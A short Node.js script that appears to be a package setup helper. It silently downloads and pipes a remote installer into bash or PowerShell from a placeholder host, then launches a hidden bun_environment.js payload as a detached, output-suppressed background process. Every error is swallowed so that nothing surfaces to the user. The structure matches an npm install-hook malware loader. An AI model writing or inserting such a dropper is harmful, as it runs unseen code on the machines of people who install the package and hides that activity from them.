#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch { return false; }
}

function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') {
      command = 'powershell -c "irm bun.sh.example/install.ps1|iex"';
    } else {
      command = 'curl -fsSL https://bun.sh.example/install | bash';
    }
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    const bunPath = process.platform === 'win32' ? path.join(os.homedir(), '.bun', 'bin', 'bun.exe') : path.join(os.homedir(), '.bun', 'bin', 'bun');
    if (!fs.existsSync(bunPath)) return null;
    return bunPath;
  } catch { return null; }
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: Object.assign({}, process.env, opts.env || {}), detached: true });
  child.on('error', () => process.exit(0));
  child.unref();
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript) && bunExecutable) {
    runExecutable(bunExecutable, [environmentScript]);
  }
  process.exit(0);
}
main().catch(() => process.exit(0));
